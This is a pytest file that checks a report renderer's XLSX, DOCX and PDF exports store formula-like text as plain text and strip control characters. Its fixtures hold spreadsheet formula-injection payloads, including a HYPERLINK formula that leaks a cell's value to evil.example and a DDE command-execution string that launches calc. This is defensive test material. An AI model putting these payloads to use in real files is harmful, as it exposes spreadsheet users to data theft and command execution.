"""A report whose stored text looks like formulas or holds control characters still renders: in XLSX
every text is a text cell, and neither XLSX, DOCX nor PDF carries a character they cannot hold."""

import datetime
import io
from decimal import Decimal

import docx
import pytest
from openpyxl import load_workbook

from iisg.analysis.tables import MONEY, Column, Link, Table
from iisg.core.text import NOT_XML
from iisg.reports.document import Chart, Document, Paragraph, Section
from iisg.reports.word import render_docx
from iisg.reports.xlsx import render_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'
LIKE_FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
CONTROL = "Night\x0bvision\x1b[31m goggles"
CONTROL_SHOWN = "Night\nvision[31m goggles"


def unsafe_document():
    """A report whose every kind of text holds what a spreadsheet would run or refuse."""
    needs = Table(
        name="coverage",
        title="Coverage\x1b of each need",
        columns=[Column("reference", "Reference"), Column("title", "Need"), Column("committed", "EUR", MONEY)],
        rows=[
            [Link(f"N{number}", f"/admin/needs/need/{number}/"), text, Decimal(number)]
            for number, text in enumerate([*LIKE_FORMULAS, CONTROL], start=1)
        ],
        notes=["A note\x0bon two lines"],
    )
    return Document(
        kind="needs-mapping",
        name="iisg-needs-mapping-2021-2022",
        title="Needs\x1b mapping",
        subtitle=HYPERLINK,
        generated_at=datetime.datetime(2024, 5, 6, 7, 8, tzinfo=datetime.UTC),
        scope=["Cycle: 2021–2022", f"Partner: {CONTROL}"],
        sections=[
            Section("Needs\x1b and their coverage", 1, [Paragraph(CONTROL), needs]),
            Section("By need", 2, [Chart("Committed\x1b by need", "<svg></svg>", needs)]),
        ],
        footnote="Kosovo*\x1b footnote",
    )


def texts_of(workbook):
    return [value for sheet in workbook for row in sheet.iter_rows(values_only=True) for value in row if value]


@pytest.fixture
def workbook():
    return load_workbook(io.BytesIO(render_xlsx(unsafe_document())))


@pytest.fixture
def word():
    return docx.Document(io.BytesIO(render_docx(unsafe_document())))


def test_xlsx_table_text_that_looks_like_a_formula_is_a_text_cell(workbook):
    titles = [row[1] for row in workbook["coverage"].iter_rows(min_row=2, max_row=6)]
    assert [(cell.value, cell.data_type) for cell in titles] == [(text, "s") for text in LIKE_FORMULAS] + [
        (CONTROL_SHOWN, "s")
    ]
    assert all(row[2].data_type == "n" for row in workbook["coverage"].iter_rows(min_row=2, max_row=6))


def test_xlsx_report_sheet_writes_the_subtitle_and_scope_as_text_without_control_characters(workbook):
    report = workbook["Report"]
    assert report["A1"].value == "Needs mapping"
    assert (report["A2"].value, report["A2"].data_type) == (HYPERLINK, "s")
    assert f"Partner: {CONTROL_SHOWN}" in [row[0] for row in report.iter_rows(values_only=True)]
    assert "Coverage of each need" in [row[1] for row in report.iter_rows(values_only=True)]


def test_xlsx_holds_no_character_a_spreadsheet_cannot_hold(workbook):
    texts = texts_of(workbook)
    assert "Kosovo* footnote" in texts
    assert "A note\non two lines" in texts
    assert not [text for text in texts if NOT_XML.search(str(text))]


def test_docx_renders_every_text_without_control_characters(word):
    paragraphs = [paragraph.text for paragraph in word.paragraphs]
    assert "Needs mapping" in paragraphs
    assert HYPERLINK in paragraphs
    assert CONTROL_SHOWN in paragraphs
    assert f"Partner: {CONTROL_SHOWN}" in paragraphs
    assert "Needs and their coverage" in paragraphs
    assert "Kosovo* footnote" in paragraphs
    assert word.core_properties.title == "Needs mapping"
    assert "Coverage of each need" in paragraphs
    assert "Committed by need" in paragraphs
    assert "A note\non two lines" in paragraphs
    cells = [cell.text for table in word.tables for row in table.rows for cell in row.cells]
    assert cells[:18] == ["Reference", "Need", "EUR"] + [
        text
        for number, title in enumerate([*LIKE_FORMULAS, CONTROL_SHOWN], start=1)
        for text in (f"N{number}", title, f"€{number}")
    ]
    footer = [paragraph.text for paragraph in word.sections[0].footer.paragraphs]
    assert footer[0] == "Kosovo* footnote"
    assert footer[1].startswith("Needs mapping · Page")
    assert not [text for text in [*paragraphs, *cells, *footer] if NOT_XML.search(text)]


def test_the_pdf_renders_without_the_characters_it_cannot_show():
    import pypdf

    from iisg.reports.pdf import render_pdf

    text = "".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(render_pdf(unsafe_document()))).pages)
    assert "vision[31m goggles" in text
    assert not NOT_XML.search(text)
